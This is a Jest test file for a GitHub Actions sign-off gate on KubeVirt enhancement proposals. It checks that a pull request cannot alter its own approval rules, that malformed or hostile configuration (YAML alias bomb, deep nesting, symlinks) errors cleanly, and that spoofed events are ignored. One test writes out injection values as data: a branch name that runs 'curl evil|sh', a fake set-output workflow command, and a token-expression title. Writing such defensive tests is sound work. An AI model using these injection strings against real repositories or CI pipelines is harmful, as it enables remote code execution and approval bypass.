// Does anything that a pull request brings along decide about it? Its own configuration, people and names; and a configuration that nobody can use.

import { beforeEach, describe, expect, test } from '@jest/globals';
import type { Door } from '../../actions/shared/door.ts';
import { push, review } from '../github/deeds/pulls.ts';
import { type Changes, type Content, commitFiles } from '../github/deeds/repositories.ts';
import { pullRequestReviewEvent, workflowRunEvent } from '../github/runner/events.ts';
import type { Repository } from '../github/state/model.ts';
import { useStandIn } from '../github/use-stand-in.ts';
import { GOOD, PATH } from '../support/proposal.ts';
import { aGoodPull, CONFIG_PATH, ownComments, TEMPLATE_PATH } from '../support/pulls.ts';
import { ALIASES, project, type Scene, SIGS_YAML, sceneOf } from '../support/signing.ts';

const standIn = useStandIn();
const NONE = '0 of 3 SIGs signed off; waiting for compute, network and storage';
const DOLLAR = '$';
let repository: Repository;
let scene: Scene;

beforeEach(() => {
  repository = project(standIn());
  scene = sceneOf(standIn(), aGoodPull().in(standIn().world, repository));
  scene.wait();
});

describe('what the pull request changes has no effect on itself', () => {
  const tries: readonly { readonly name: string; readonly changes: Changes }[] = [
    {
      name: 'case 88: the author among the representatives',
      changes: {
        [CONFIG_PATH]:
          'preset: vep\nsign-off: {author: true}\nsigs: {representatives: {compute: {add: [bob]}}}\n',
      },
    },
    {
      name: 'case 88: lists of people in its own repository',
      changes: {
        'sigs.yaml': SIGS_YAML.replace('Cora', 'bob'),
        OWNERS_ALIASES: ALIASES.replace('cal', 'bob'),
      },
    },
    { name: 'case 89: a template of its own', changes: { [TEMPLATE_PATH]: '# VEP #NNNN: Title\n' } },
    {
      name: 'case 90: the gate switched off',
      changes: { [CONFIG_PATH]: 'preset: vep\nsign-off: {mode: off}\n' },
    },
    { name: 'case 90: no SIG required', changes: { [CONFIG_PATH]: 'preset: vep\nsigs: {required: []}\n' } },
    { name: 'the configuration taken away', changes: { [CONFIG_PATH]: null } },
    {
      name: 'its proposal called the template',
      changes: { [CONFIG_PATH]: `preset: vep\nproposals: {template: ${PATH}}\n` },
    },
  ];
  test.each(tries)('$name', async ({ changes }) => {
    push(standIn().world, scene.pull, changes);
    await scene.look();
    await scene.say('bob', '/lgtm');
    expect(scene.status()).toEqual({ state: 'pending', description: NONE });
  });
});

test('case 91: the configuration is that of the branch it wants to go to', async () => {
  const { world } = standIn();
  repository.refs.set('heads/next', repository.refs.get('heads/main') ?? '');
  commitFiles(world, repository, 'next', { [CONFIG_PATH]: 'preset: vep\nsigs: {required: [scale]}\n' });
  const other = sceneOf(standIn(), aGoodPull().by('carl').onto('next').in(world, repository));
  await other.look();
  expect(other.status()?.description).toBe('0 of 2 SIGs signed off; waiting for compute and scale');
});

describe('a configuration that cannot be used', () => {
  const broken: readonly { readonly name: string; readonly content: Content; readonly says: RegExp }[] = [
    { name: 'case 92: none', content: null, says: /There is no configuration .* Add it there/s },
    { name: 'case 93: no YAML', content: 'preset: vep\n  sigs: [\n', says: /enhancements\.yaml:\d+:\d+: / },
    { name: 'case 93: a key twice', content: 'preset: vep\npreset: cep\n', says: /enhancements\.yaml:2:1: / },
    {
      name: 'case 93: an unknown key',
      content: 'preset: vep\nsigns: {}\n',
      says: /enhancements\.yaml:2:1: /,
    },
    { name: 'case 93: a wrong type', content: 'sign-off: {mode: 3}\n', says: /enhancements\.yaml:1:18: / },
    {
      name: 'case 94: an alias bomb',
      content: 'a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n',
      says: /enhancements\.yaml:\d+:\d+: /,
    },
    {
      name: 'case 94: 20,000 brackets',
      content: `a: ${'['.repeat(20_000)}`,
      says: /enhancements\.yaml:\d+:\d+: /,
    },
    { name: 'case 97: a link', content: { mode: '120000', content: 'README.md' }, says: /symbolic link/ },
    { name: 'case 97: a submodule', content: { mode: '160000', content: '0'.repeat(40) }, says: /submodule/ },
    {
      name: 'case 97: more than a megabyte',
      content: `# ${'x'.repeat(1_100_000)}\n`,
      says: /KiB|too large|MB/,
    },
  ];
  test.each(broken)('$name: an error, and the place of it', async ({ content, says }) => {
    commitFiles(standIn().world, repository, 'main', { [CONFIG_PATH]: content });
    const { exit, complaints } = await scene.look();
    expect([exit, scene.status()?.state]).toEqual([1, 'error']);
    expect(complaints.join('\n')).toMatch(says);
    expect(scene.status()?.description).toMatch(
      /^could not tell: The configuration|^could not tell: There is no/,
    );
  });
});

describe('people that cannot be read', () => {
  const broken: readonly { readonly name: string; readonly content: Content; readonly says: string }[] = [
    { name: 'none', content: null, says: 'kubevirt/community sigs.yaml, which is not there' },
    { name: 'a key twice', content: 'sigs: []\nsigs: []\n', says: 'kubevirt/community sigs.yaml:2:1: ' },
    {
      name: 'a link',
      content: { mode: '120000', content: 'x' },
      says: 'sigs.yaml: The file is a symbolic link.',
    },
  ];
  test.each(broken)('$name: an error that names the file', async ({ content, says }) => {
    const community = standIn().world.repositories.get('kubevirt/community') as Repository;
    commitFiles(standIn().world, community, 'main', { 'sigs.yaml': content });
    const { exit, complaints } = await scene.look();
    expect([exit, scene.status()?.state]).toEqual([1, 'error']);
    expect(complaints.join('\n')).toContain(says);
  });
});

describe('events are not believed', () => {
  const given = ({ name, payload }: { readonly name: string; readonly payload: object }) => ({
    event: { name, payload: payload as Door['event']['payload'] },
  });

  test('case 62: the state of a review in lower case, as events have it, changes nothing', async () => {
    const said = review(standIn().world, scene.pull, 'CHANGES_REQUESTED', { by: 'scout', body: 'no' });
    const event = pullRequestReviewEvent(standIn(), said);
    const payload = {
      ...event.payload,
      review: { state: 'approved', user: { login: 'scout' }, body: '/lgtm' },
    };
    await scene.look(given({ name: event.name, payload }));
    expect(scene.status()).toMatchObject({ state: 'failure' });
  });

  test('case 100: a workflow of a fork with the name of ours causes one more look, and nothing else', async () => {
    await scene.look();
    standIn().forgetAsked();
    await scene.look(given(workflowRunEvent(standIn(), scene.pull, 'completed', 'gates')));
    expect(standIn().asked.filter(({ isWrite }) => isWrite)).toEqual([]);
  });
});

test.each([
  ['branch', `";curl${DOLLAR}{IFS}evil|sh;"`],
  ['branch', '%0A::set-output%20name=verdict::pass'],
  ['title', `${DOLLAR}{{ github.token }} ::error::x @kubevirt/maintainers #1`],
])('case 101: a %s such as %s is a name and nothing else', async (what, name) => {
  const { world } = standIn();
  const builder = aGoodPull().by('mallory').fromFork();
  const pull = (what === 'branch' ? builder.fromBranch(name) : builder.titled(name)).in(world, repository);
  const other = sceneOf(standIn(), pull);
  const { name: event, payload } = workflowRunEvent(standIn(), pull);
  const heard = await other.look({ event: { name: event, payload: payload as Door['event']['payload'] } });
  expect([heard.exit, other.status()?.state]).toEqual([0, 'pending']);
  expect(ownComments(pull).join('\n')).not.toContain(name);
});

test('case 85: a path that only looks like another one is a proposal all the same', async () => {
  for (const path of ['veps/some-name.md', 'veps/sig-compute/VEP.MD']) {
    const pull = aGoodPull()
      .by('carl')
      .changing({ [PATH]: null, [path]: GOOD })
      .in(standIn().world, repository);
    const other = sceneOf(standIn(), pull);
    await other.look();
    expect([path, other.status()?.state]).toEqual([path, expect.stringMatching(/pending|failure/)]);
  }
});
